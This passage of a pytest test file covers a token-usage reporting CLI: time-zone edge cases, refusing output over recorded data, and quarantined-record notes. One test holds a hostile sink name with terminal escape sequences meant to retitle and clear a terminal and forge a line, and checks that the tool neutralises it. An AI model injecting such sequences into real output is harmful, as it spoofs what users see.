    doc = report_json(cli, "--source", str(path), "--detailed")
    assert [c["estimated"] for c in doc["calls"]] == [False, True]
    code, out, _ = cli("report", "--source", str(path), "--detailed")
    assert code == 0 and out.count("ok (estimated)") == 1


# --- --by that names no key, --compare near year 1, bad lines read twice ---------------------


@pytest.mark.parametrize("by", ["", ",", " ", " , "])
@pytest.mark.parametrize("fmt", ["table", "markdown", "json"])
def test_a_by_value_naming_no_key_is_a_usage_error(
    cli: RunCli, source: Path, by: str, fmt: str
) -> None:
    code, out, err = cli("report", "--source", str(source), "--by", by, "--format", fmt)
    assert (code, out) == (2, "")
    assert err.strip().splitlines() == [
        f"tokenmeter: error: unknown --by key {by!r}: use one of "
        "provider, model, family, session, name, status, hour, day, week, month, tag:KEY"
    ]


@pytest.mark.parametrize(
    ("window", "earlier"),
    [
        (("--since", "0001-01-02"), "compared with: 0001-01-01 to 0001-01-01 (UTC"),
        (("--since", "700000d"), "compared with: 0001-01-01 00:00:00.000 up to 0"),
        (
            ("--since", "0001-01-01T12:00", "--until", "0001-01-03"),
            "compared with: 0001-01-01 00:00:00.000 up to 0001-01-01 12:00:00.000 (UTC",
        ),
        (
            ("--since", "0001-01-02", "--tz", "America/New_York"),
            "compared with: 0001-01-01 to 0001-01-01 (America/New_York",
        ),
    ],
)
def test_compare_near_year_one_starts_at_year_one(
    cli: RunCli, source: Path, window: tuple[str, ...], earlier: str
) -> None:
    code, out, err = cli("report", "--source", str(source), "--compare", *window)
    assert code == 0, err
    assert earlier in out
    doc = report_json(cli, "--source", str(source), "--compare", *window)
    assert doc["totals"]["previous_cost_usd"] == 0  # no call before the window: $0
    assert doc["totals"]["previous_calls"] == 0


def test_compare_with_no_time_before_the_window_is_a_usage_error(
    cli: RunCli, source: Path, tmp_path: Path
) -> None:
    window = ("--since", "0001-01-01", "--until", "0001-01-01")
    code, out, err = cli("report", "--source", str(source), "--compare", *window)
    assert (code, out) == (2, "")
    assert err.strip().splitlines() == [
        "tokenmeter: error: --compare: there is no time before --since to compare with"
    ]
    page = tmp_path / "year-one.html"  # the dashboard compares when it can, without asking
    code, _, err = cli("report", "--source", str(source), "-o", str(page), *window)
    assert code == 0 and page.exists(), err


@pytest.mark.parametrize(
    "command",
    [
        ("--compare", "--since", "2026-11-02", "--format", "json"),
        ("--compare", "--since", "2026-11-02"),
        ("--since", "2026-11-02", "--format", "html"),
    ],
    ids=["compare-json", "compare-table", "html"],
)
def test_a_corrupt_line_is_counted_once_when_the_earlier_period_is_read_too(
    cli: RunCli, tmp_path: Path, command: tuple[str, ...]
) -> None:
    path = write_jsonl(tmp_path / "usage.jsonl", RECORDS)
    append_lines(path, ["garbage"])
    code, out, err = cli("report", "--source", str(path), *command)
    assert code == 0, err
    assert err.strip().splitlines() == [f"tokenmeter: warning: skipped 1 corrupt line in {path}"]
    if "json" in command:
        assert json.loads(out)["skipped_lines"] == 1


def test_a_day_past_year_9999_in_the_zone_is_no_crash(cli: RunCli, source: Path) -> None:
    last = rec(99, "9999-12-31T23:59:59.999Z", "openai", "gpt-4o", 1, 1, "0.5")
    if source.suffix == ".db":
        write_sqlite(source, [last], [])
    else:
        write_jsonl(source, [last])
    code, out, err = cli(
        "report", "--source", str(source), "--by", "day", "--tz", "Europe/Paris", "--format", "json"
    )
    assert code == 0, err
    rows = rows_by(json.loads(out, parse_float=Decimal), "day")
    assert rows[("(none)",)]["cost_usd"] == Decimal("0.5")


@pytest.mark.parametrize("fmt", ["table", "markdown", "html"])
def test_a_call_with_no_time_in_the_zone_is_listed_at_its_stored_time(
    cli: RunCli, source: Path, fmt: str
) -> None:
    """A call stored at Go's zero time, 0001-01-01T00:00:00Z (year 0 in New York), or late on
    9999-12-31 (year 10000 at UTC+14): ``report --detailed --tz`` ended in an OverflowError
    traceback ("date value out of range"). Such a call is listed at its time as stored."""
    first = rec(97, "0001-01-01T00:00:00Z", "openai", "gpt-4o", 1, 1, "0.5")
    last = rec(98, "9999-12-31T23:00:00Z", "openai", "gpt-4o", 1, 1, "0.5")
    if source.suffix == ".db":
        write_sqlite(source, [first, last, *RECORDS], [])
    else:
        write_jsonl(source, [first, last, *RECORDS])
    for zone, shown in [
        ("America/New_York", ["0001-01-01T00:00:00.000Z", "9999-12-31T18:00:00.000-05:00"]),
        # Kiritimati: UTC+14 at the end of 9999; its local mean time, 10:29 behind, in year 1
        ("Pacific/Kiritimati", ["0001-01-01T00:00:00.000Z", "9999-12-31T23:00:00.000Z"]),
    ]:
        code, out, err = cli(
            "report", "--source", str(source), "--detailed", "--tz", zone, "--format", fmt
        )
        assert code == 0, err
        assert all(time in out for time in shown), (zone, shown)


@pytest.mark.parametrize(
    ("window", "period"),
    [
        (
            ("--since", "2026-10-01", "--until", "9999-12-31", "--tz", "Europe/Paris"),
            "2026-10-01 to … (Europe/Paris, both days included)",
        ),
        (("--until", "9999-12-31", "--tz", "Asia/Tokyo"), "all time"),
        (
            ("--since", "0001-01-01T00:00Z", "--until", "2026-12-01", "--tz", "America/New_York"),
            "… to 2026-12-01 (America/New_York, both days included)",
        ),
        (
            ("--since", "9999-12-01", "--until", "9999-12-31", "--tz", "Europe/Paris", "--compare"),
            "9999-12-01 to … (Europe/Paris, both days included)",
        ),
    ],
)
@pytest.mark.parametrize("fmt", ["table", "markdown", "html"])
def test_a_bound_with_no_date_in_the_zone_is_shown_as_none(
    cli: RunCli, source: Path, fmt: str, window: tuple[str, ...], period: str
) -> None:
    """``--until 9999-12-31`` (no end) in a zone east of UTC ends in year 10000 there: the table,
    markdown and HTML reports ended in an OverflowError traceback ("date value out of range")
    while writing the period; so did a ``--since`` of year 1 in UTC, west of it."""
    code, out, err = cli("report", "--source", str(source), *window, "--format", fmt)
    assert code == 0, err
    assert period in out
    assert report_json(cli, "--source", str(source), *window)["totals"]["calls"] == (
        0 if "--compare" in window else len(RECORDS)
    )


def test_output_onto_other_recorded_data_is_refused(tmp_path: Path) -> None:
    """Only the file being read was refused: a report of ``usage.db`` written with ``-o`` over
    ``usage.jsonl`` beside it, over ``alerts.jsonl`` or over another SQLite database replaced
    that history with the report."""
    data = tmp_path / ".tokenmeter"
    write_sqlite(data / "usage.db", RECORDS, SESSIONS)
    jsonl = write_jsonl(data / "usage.jsonl", RECORDS)
    (data / "alerts.jsonl").write_text('{"time": "2026-11-01T00:00:00Z", "rule": "r"}\n')
    other = write_sqlite(tmp_path / "archive.sqlite", RECORDS, SESSIONS)
    kept = {path: path.read_bytes() for path in (jsonl, data / "alerts.jsonl", other)}
    for target in (".tokenmeter/usage.jsonl", ".tokenmeter/alerts.jsonl", "archive.sqlite"):
        result = run_module(
            "report", "--source", ".tokenmeter/usage.db", "-o", target, cwd=tmp_path
        )
        assert result.returncode == 2, result.stderr
        assert result.stderr.splitlines() == [
            f"tokenmeter: error: -o {target} holds recorded tokenmeter data: "
            "write the report to another file"
        ]
    assert {path: path.read_bytes() for path in kept} == kept
    # Nor one of those names beside the data before it exists: a report made usage.db beside
    # usage.jsonl, read as the data next time, and refused by the library's SQLite sink.
    jsonl_only = tmp_path / "jsonl-only"
    write_jsonl(jsonl_only / "usage.jsonl", RECORDS)
    for name in ("usage.db", "budgets.db", "quarantine.jsonl"):
        result = run_module(
            "report", "--source", "jsonl-only", "-o", f"jsonl-only/{name}", cwd=tmp_path
        )
        assert result.returncode == 2, result.stderr
        assert result.stderr.splitlines() == [
            f"tokenmeter: error: -o jsonl-only/{name} names a file of tokenmeter data: "
            "write the report to another file"
        ]
    assert sorted(path.name for path in jsonl_only.iterdir()) == ["usage.jsonl"]
    report = tmp_path / "report.txt"  # an ordinary file is still written over
    report.write_text("old")
    result = run_module(
        "report", "--source", ".tokenmeter/usage.db", "-o", "report.txt", cwd=tmp_path
    )
    assert result.returncode == 0 and "gpt" in report.read_text(), result.stderr


def test_output_into_a_data_folder_not_made_yet_is_refused(tmp_path: Path) -> None:
    """``-o .tokenmeter/usage.db`` before the library ever ran (reading the demo's data) was
    written: the data folder was recognised only once it existed, so the report became the
    ``usage.db`` the library's SQLite sink then refused every record for. Judged by the path,
    whether or not the folder exists yet."""
    demo = tmp_path / "demo"
    write_sqlite(demo / "usage.db", RECORDS, SESSIONS)
    settings = {"TOKENMETER_DIR": ".tokenmeter"}
    for target in (".tokenmeter/usage.db", ".tokenmeter/journal/token_usage.md"):
        result = run_module("report", "--source", "demo", "-o", target, cwd=tmp_path, **settings)
        assert result.returncode == 2, (target, result.stderr)
        assert result.stderr.splitlines() == [
            f"tokenmeter: error: -o {target} names a file of tokenmeter data: "
            "write the report to another file"
        ]
    assert not (tmp_path / ".tokenmeter").exists()


def test_output_onto_the_markdown_journal_is_refused(tmp_path: Path, cli: RunCli) -> None:
    """``report --format markdown -o .tokenmeter/journal/token_usage.md`` replaced the journal's
    whole history with the report (exit 0), and the journal sink then refused every later
    record for it ("not a tokenmeter journal"): a journal page is recorded data, wherever it is,
    and so are its names beside the data before they exist."""
    data = tmp_path / ".tokenmeter"
    write_sqlite(data / "usage.db", RECORDS, SESSIONS)
    journal = MarkdownJournalSink(data / "journal")
    journal.write(RECORDS)
    pages = [data / "journal" / "token_usage.md", journal.session_path(CHAT[0])]
    copy = tmp_path / "kept.md"  # a journal copied away is sniffed by its first line
    copy.write_bytes(pages[0].read_bytes())
    kept = {path: path.read_bytes() for path in (*pages, copy)}
    for target in (*pages, copy):
        code, _, err = cli(
            "report", "--source", str(data), "--format", "markdown", "-o", str(target)
        )
        assert code == 2, err
        assert err == (
            f"tokenmeter: error: -o {target} holds recorded tokenmeter data: "
            "write the report to another file\n"
        )
    assert {path: path.read_bytes() for path in kept} == kept
    # A session page not made yet is the journal's too: the sink would refuse a report there.
    code, _, err = cli(
        "session", CHAT[0], "--source", str(data), "-o", str(data / "journal/sessions/new.md")
    )
    assert code == 2 and "names a file of tokenmeter data" in err, err
    assert not (data / "journal/sessions/new.md").exists()


def test_output_onto_the_state_file_a_usage_report_or_another_records_file_is_refused(
    tmp_path: Path,
) -> None:
    """``report -o`` replaced the configured workflow state file (its TOKEN_TRACKING lines
    gone, exit 0), an automatic ``reports/usage_report_<period>.md``, a JSONL sink's records
    file of another name (the example's ``example-usage.jsonl``), the demo's state file and,
    reading the demo's data, the files of the configured directory: all are refused."""
    data = tmp_path / ".tokenmeter"
    write_sqlite(data / "usage.db", RECORDS, SESSIONS)
    state = data / "workflow_state.md"
    state.write_text("- 2026-11-01: TOKEN_TRACKING: Session s - 10 tokens, $0.01\n")
    (data / "reports").mkdir()
    usage_report = data / "reports" / "usage_report_2026-11-01.md"
    usage_report.write_text("# Usage report 2026-11-01 (day)\n")
    records = write_jsonl(data / "example-usage.jsonl", RECORDS)
    demo = tmp_path / "demo"
    write_sqlite(demo / "usage.db", RECORDS, SESSIONS)
    demo_state = demo / "workflow_state.md"
    demo_state.write_text("- 2026-11-01: TOKEN_TRACKING: Session demo - 10 tokens, $0.01\n")
    kept = {path: path.read_bytes() for path in (state, usage_report, records, demo_state)}
    settings = {"TOKENMETER_DIR": ".tokenmeter", "TOKENMETER_STATE_FILE": str(state)}
    for target in [*kept, data / "usage.jsonl"]:
        result = run_module(
            "report", "--source", "demo", "-o", str(target), cwd=tmp_path, **settings
        )
        held = "holds recorded" if target.exists() else "names a file of"
        assert result.returncode == 2, (target, result.stderr)
        assert result.stderr.splitlines() == [
            f"tokenmeter: error: -o {target} {held} tokenmeter data: "
            "write the report to another file"
        ]
    assert {path: path.read_bytes() for path in kept} == kept
    assert not (data / "usage.jsonl").exists()
    # A state file not made yet: a report there would be appended to as if it were one.
    settings["TOKENMETER_STATE_FILE"] = "state.md"
    result = run_module(
        "sessions", "--source", "demo", "-o", "./state.md", cwd=tmp_path, **settings
    )
    assert result.returncode == 2 and "names a file of tokenmeter data" in result.stderr
    assert not (tmp_path / "state.md").exists()


def test_output_through_a_link_a_loop_or_onto_a_terminal_is_judged_by_what_it_reaches(
    tmp_path: Path,
) -> None:
    """A link of another name to alerts.jsonl or an automatic usage report replaced it (judged
    by the link's own name); a loop of links printed a RuntimeError traceback when a state file
    was set; ``-o /dev/stdout`` was refused when the state file was ``/dev/stderr`` and both went
    to one pipe. Judged by what the output reaches now."""
    data = tmp_path / ".tokenmeter"
    write_sqlite(data / "usage.db", RECORDS, SESSIONS)
    alerts = data / "alerts.jsonl"
    alerts.write_text('{"time": "2026-11-01T10:00:00.000Z", "rule": "budget"}\n')
    kept = alerts.read_bytes()
    (tmp_path / "my-report.csv").symlink_to(alerts)
    (tmp_path / "loop").symlink_to(tmp_path / "loop")
    settings = {"TOKENMETER_DIR": ".tokenmeter", "TOKENMETER_STATE_FILE": "state.md"}
    linked = run_module("report", "-o", "my-report.csv", cwd=tmp_path, **settings)
    assert linked.returncode == 2 and "holds recorded tokenmeter data" in linked.stderr
    assert alerts.read_bytes() == kept
    loop = run_module("report", "-o", "loop", cwd=tmp_path, **settings)
    assert "Traceback" not in loop.stderr and len(loop.stderr.splitlines()) == 1
    piped = subprocess.run(
        [sys.executable, "-m", "tokenmeter", "report", "-o", "/dev/stdout"],
        cwd=tmp_path,
        env=subprocess_env(TOKENMETER_DIR=".tokenmeter", TOKENMETER_STATE_FILE="/dev/stderr"),
        stdout=subprocess.PIPE,
        stderr=subprocess.STDOUT,
        text=True,
        timeout=120,
    )
    assert piped.returncode == 0 and "gpt-4o" in piped.stdout, piped.stdout


@pytest.mark.parametrize("kind", ["sqlite", "jsonl"])
def test_output_onto_the_data_being_read_is_refused(tmp_path: Path, kind: str) -> None:
    """``-o`` naming the usage data itself (a slip of tab completion) overwrote the recorded
    history with the report: the command that only ever reads destroyed it."""
    if kind == "sqlite":
        source = write_sqlite(tmp_path / "usage.db", RECORDS, SESSIONS)
    else:
        source = write_jsonl(tmp_path / "usage.jsonl", RECORDS)
    before = source.read_bytes()
    (tmp_path / "link").symlink_to(source)
    for target, command in [
        (source.name, ["report"]),
        ("link", ["report", "--format", "csv"]),
        (f"./{source.name}", ["sessions"]),
        (source.name, ["session", "sess-chat"]),
    ]:
        result = run_module(*command, "--source", str(tmp_path), "-o", target, cwd=tmp_path)
        assert result.returncode == 2, (command, result.stderr)
        assert result.stderr.splitlines() == [
            f"tokenmeter: error: -o {target} is the usage data being read: "
            "write the report to another file"
        ], command
        assert source.read_bytes() == before


def test_records_of_two_jsonl_sinks_on_one_path_are_counted_once(
    cli: RunCli, tmp_path: Path
) -> None:
    """Two JSONL sinks on one path wrote every record twice; the report counted each twice,
    where SQLite keeps one row per id. Each is counted once, in totals as in the listed calls
    and the sessions. (configure() refuses two sinks on one file now; a file written so by an
    older tokenmeter, or a ledger merged twice, still holds every line twice.)"""
    import tokenmeter
    from tokenmeter.sinks import JSONLSink, SQLiteSink

    jsonl, db = tmp_path / "usage.jsonl", tmp_path / "usage.db"
    tokenmeter.configure(sinks=[JSONLSink(jsonl), SQLiteSink(db)])
    with tokenmeter.session("job"):
        for i in range(30):
            tokenmeter.record("openai", "gpt-4o", 1000 + i, 500)
    assert tokenmeter.flush()
    jsonl.write_text(jsonl.read_text() * 2)
    assert len(jsonl.read_text().splitlines()) == 60
    reports = [
        json.loads(cli("report", "--detailed", "--format", "json", "--source", str(path))[1])
        for path in (jsonl, db)
    ]
    assert reports[0]["totals"] == reports[1]["totals"]
    assert reports[0]["totals"]["calls"] == 30 and len(reports[0]["calls"]) == 30
    code, out, _ = cli("sessions", "--format", "json", "--source", str(jsonl))
    assert code == 0 and [s["calls"] for s in json.loads(out)] == [30]


@pytest.mark.parametrize("kind", ["sqlite", "jsonl"])
def test_an_average_cost_is_written_to_the_pico_dollar(
    cli: RunCli, tmp_path: Path, kind: str
) -> None:
    """$0.00007 over 3 priced calls was written as the exact quotient's 32 digits
    (0.00002333333333333333333333333333) in JSON and CSV; the other formats round it for
    reading. The machine formats keep it to the pico-dollar, as costs are stored."""
    records = [
        rec(i, "2026-03-01T10:00:00Z", "openai", "gpt-4o", 10, 5, cost)
        for i, cost in enumerate(["0.00002", "0.00002", "0.00003"])
    ]
    source = (
        write_sqlite(tmp_path / "usage.db", records, [])
        if kind == "sqlite"
        else write_jsonl(tmp_path / "usage.jsonl", records)
    )
    code, out, _ = cli("report", "--source", str(source), "--format", "json")
    assert code == 0
    document = json.loads(out, parse_float=Decimal)
    assert document["totals"]["avg_cost_per_call_usd"] == Decimal("0.000023333333")
    assert [row["avg_cost_per_call_usd"] for row in document["rows"]] == [Decimal("0.000023333333")]
    code, out, _ = cli("report", "--source", str(source), "--format", "csv")
    assert code == 0
    [row] = list(csv.DictReader(io.StringIO(out)))
    assert row["avg_cost_per_call_usd"] == "0.000023333333"


def test_the_quarantine_file_is_read_as_the_records_it_set_aside(
    cli: RunCli, tmp_path: Path
) -> None:
    """``report --source quarantine.jsonl`` skipped every line (each wraps a record with the
    sink and its error): what a sink refused could not be looked at."""

    class Down(InMemorySink):
        def write(self, records: Sequence[UsageRecord]) -> None:
            raise OSError("server down")

    tokenmeter.configure(sinks=[Down()], directory=tmp_path)
    for _ in range(3):
        tokenmeter.record("openai", "gpt-4o", 1000, 500)
    tokenmeter.configure(sinks=[InMemorySink()])  # the old sink stops: set aside
    code, out, err = cli(
        "report", "--source", str(tmp_path / "quarantine.jsonl"), "--format", "json"
    )
    assert code == 0 and err == ""
    assert json.loads(out)["totals"]["calls"] == 3


class SQLiteSink(tokenmeter.sinks.SQLiteSink):
    """A SQLite sink that refuses every write, named as the real one in quarantine.jsonl."""

    def write(self, records: Sequence[UsageRecord]) -> None:
        raise OSError("disk I/O error")

    def write_sessions(self, sessions: Sequence[SessionInfo]) -> None:
        raise OSError("disk I/O error")


def test_records_set_aside_beside_the_data_are_said_not_to_be_in_the_report(
    cli: RunCli, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """usage.db and a quarantine.jsonl of 3 records the SQLite sink refused: ``report`` showed
    the 1 call of the database and said nothing of the others. The sessions set aside beside
    them are not counted (a report skips them too)."""
    tokenmeter.configure(sinks=[SQLiteSink(tmp_path / "refusing.db")], directory=tmp_path)
    with tokenmeter.session("nightly"):
        for _ in range(3):
            tokenmeter.record("openai", "gpt-4o", 1000, 500)
    tokenmeter.configure(sinks=[InMemorySink()])  # the old sink stops: set aside
    quarantine = tmp_path / "quarantine.jsonl"
    assert len(quarantine.read_text().splitlines()) > 3  # the session's lines too
    db = write_sqlite(tmp_path / "usage.db", RECORDS[:1], [])
    note = (
        f"tokenmeter: note: 3 records that SQLiteSink refused are set aside in {quarantine}, "
        f"not in this report (--source {quarantine} reads them, with what other sinks refused)\n"
    )
    monkeypatch.setenv("TOKENMETER_DIR", str(tmp_path))
    for command in (["report"], ["sessions"]):
        for source in ([], ["--source", str(db)], ["--source", str(tmp_path)]):
            code, out, err = cli(*command, *source)
            assert (code, err) == (0, note), (command, source)
    code, out, err = cli("report", "--source", str(quarantine), "--format", "json")
    assert code == 0 and "note" not in err and json.loads(out)["totals"]["calls"] == 3
    elsewhere = write_sqlite(tmp_path / "copy" / "usage.db", RECORDS[:1], [])
    assert cli("report", "--source", str(elsewhere))[2] == ""


def test_the_note_of_records_set_aside_counts_only_what_the_source_lacks(
    cli: RunCli, tmp_path: Path
) -> None:
    """``sinks = sqlite`` and a sink that was down: SQLite stored all 3 calls, the other sink's
    3 were set aside, and ``report`` said "3 records set aside ... are not in this report"
    (they were): a user adding the quarantine report counted the money twice. Now only the
    records the SQLite sink refused count, and only those of the report's period and filters."""

    class PostgresSink(InMemorySink):
        """Named as tokenmeter's in quarantine.jsonl: a server that is down."""

        def write(self, records: Sequence[UsageRecord]) -> None:
            raise OSError("server down")

    tokenmeter.configure(sinks=["sqlite", PostgresSink()], directory=tmp_path)
    for _ in range(3):
        tokenmeter.record("openai", "gpt-4o", 1000, 500)
    tokenmeter.configure(sinks=[InMemorySink()])  # the old sink stops: set aside
    quarantine = tmp_path / "quarantine.jsonl"
    assert len(quarantine.read_text().splitlines()) == 3
    code, out, err = cli("report", "--source", str(tmp_path), "--format", "json")
    assert (code, err) == (0, "") and json.loads(out)["totals"]["calls"] == 3

    tokenmeter.configure(sinks=[SQLiteSink(tmp_path / "refusing.db")], directory=tmp_path)
    tokenmeter.record("openai", "gpt-4o", 1, 1, timestamp="2026-11-01T10:00:00Z")
    tokenmeter.record("anthropic", "claude-sonnet-4", 1, 1, timestamp="2026-11-02T10:00:00Z")
    tokenmeter.configure(sinks=[InMemorySink()])
    for options, said in [
        ((), "2 records that SQLiteSink refused are"),
        (("--since", "2026-11-02"), "1 record of this report's period that SQLiteSink refused is"),
        (("--provider", "openai"), "1 record of this report's period and filters that SQLiteSink"),
        (("--since", "2026-11-02", "--provider", "openai"), None),
    ]:
        code, _, err = cli("report", "--source", str(tmp_path / "usage.db"), *options)
        assert code == 0, options
        if said is None:
            assert err == "", options
        else:
            assert err.startswith(f"tokenmeter: note: {said}"), options


def test_the_note_counts_what_a_projects_own_sink_refused(cli: RunCli, tmp_path: Path) -> None:
    """A project's subclass of the SQLite sink on usage.db is named by its own class in
    quarantine.jsonl (``"sink": "Audited"``), and the note, counting only lines naming
    SQLiteSink, was silent about the 2 records it refused. A line says no more of where its sink
    wrote: a sink that is not one of tokenmeter's is counted, and named; another of
    tokenmeter's sinks (PostgreSQL's) still is not."""

    class Audited(SQLiteSink):
        pass

    class PostgresSink(InMemorySink):
        def write(self, records: Sequence[UsageRecord]) -> None:
            raise OSError("server down")

    db = write_sqlite(tmp_path / "usage.db", RECORDS[:1], [])
    tokenmeter.configure(sinks=[Audited(db), PostgresSink()], directory=tmp_path)
    tokenmeter.record("openai", "gpt-4o", 1, 1, timestamp="2026-11-01T10:00:00Z")
    tokenmeter.record("openai", "gpt-4o", 1, 1, timestamp="2026-11-02T10:00:00Z")
    tokenmeter.configure(sinks=[InMemorySink()])  # the old sinks stop: set aside
    quarantine = tmp_path / "quarantine.jsonl"
    assert quarantine.read_text().count('"sink": "PostgresSink"') == 2
    code, _, err = cli("report", "--source", str(db))
    assert code == 0
    assert err.startswith("tokenmeter: note: 2 records that Audited refused are set aside"), err
    assert "not in it if Audited writes it" in err  # or it writes elsewhere: a webhook
    code, _, err = cli("report", "--source", str(db), "--since", "2026-11-02")
    assert err.startswith("tokenmeter: note: 1 record of this report's period that Audited"), err


def test_the_note_shows_a_sink_name_as_recorded_text_is(cli: RunCli, tmp_path: Path) -> None:
    """A sink's name in quarantine.jsonl (a class of the project's, a hand-edited line) was
    printed raw: `MySink<ESC>]0;pwned<BEL><ESC>[2J<LF>forged...` retitled and cleared the
    terminal and forged a line of its own. docs/cli.md: control characters in recorded text
    are shown as U+FFFD, never passed to the terminal."""
    hostile = "MySink\x1b]0;pwned\x07\x1b[2J\nforged: 0 records\u202e"
    refusing = type(hostile, (SQLiteSink,), {})
    db = write_sqlite(tmp_path / "usage.db", RECORDS[:1], [])
    tokenmeter.configure(sinks=[refusing(db)], directory=tmp_path)
    tokenmeter.record("openai", "gpt-4o", 1, 1, timestamp="2026-11-01T10:00:00Z")
    tokenmeter.configure(sinks=[InMemorySink()])  # the old sink stops: set aside
    assert json.dumps(hostile)[1:-1] in (tmp_path / "quarantine.jsonl").read_text()
    for command in ("report", "sessions"):
        code, _, err = cli(command, "--source", str(db))
        assert code == 0 and err.count("\n") == 1 and err.endswith("\n"), err
        shown = "MySink\ufffd]0;pwned\ufffd\ufffd[2J\ufffdforged: 0 records\ufffd"
        assert err.startswith(f"tokenmeter: note: 1 record that {shown} refused is set aside")
        assert f"not in it if {shown} writes it" in err


def test_calls_outside_a_named_session_are_labelled_by_name(cli: RunCli, source: Path) -> None:
    """``--by name`` showed a row with a blank label for them (the HTML chart said "(no name)");
    the machine formats keep the empty text a program tests for."""
    code, out, err = cli("report", "--source", str(source), "--by", "name", "--by", "day")
    assert code == 0, err
    row = next(line for line in out.splitlines() if "2026-11-02" in line and " 55 " in line)
    assert row.startswith("(no name)  2026-11-02")
    code, out, _ = cli("report", "--source", str(source), "--by", "name", "--format", "markdown")
    assert "| (no name) | 1 |" in out
    code, out, _ = cli("report", "--source", str(source), "--by", "name", "--format", "csv")
    assert ",1,50,5," in out and "\n,1,50,5," in out and "(no name)" not in out
    code, out, _ = cli("report", "--source", str(source), "--by", "session")
    assert "(no name)" not in out  # the session id names the row


def test_the_average_of_a_summary_with_unpriced_calls_says_it_is_per_priced_call(
    cli: RunCli, tmp_path: Path
) -> None:
    """Three gpt-4o calls ($0.0035 each) and three of an unpriced model: the weekly markdown
    summary and the dashboard's card read "Average cost per call: $0.0035", where the reader's
    $0.0105 / 6 calls is $0.00175. The figure is over the priced calls, and now says so."""
    now = datetime.now(UTC).isoformat()
    made = [rec(n, now, "openai", "gpt-4o", 1000, 100, "0.0035") for n in range(3)]
    made += [rec(n, now, "openai", "my-model", 1000, 100, None) for n in range(3, 6)]
    data = write_sqlite(tmp_path / "usage.db", made, [])
    code, out, err = cli(
        "report", "--source", str(data), "--period", "week", "--tz", "UTC", "--format", "markdown"
    )
    assert code == 0, err
    assert "- **Average cost per priced call**: $0.0035" in out.splitlines()
    code, out, err = cli("report", "--source", str(data), "--format", "html")
    assert code == 0, err
    assert "Average cost per call" not in out and "Average cost per priced call" in out
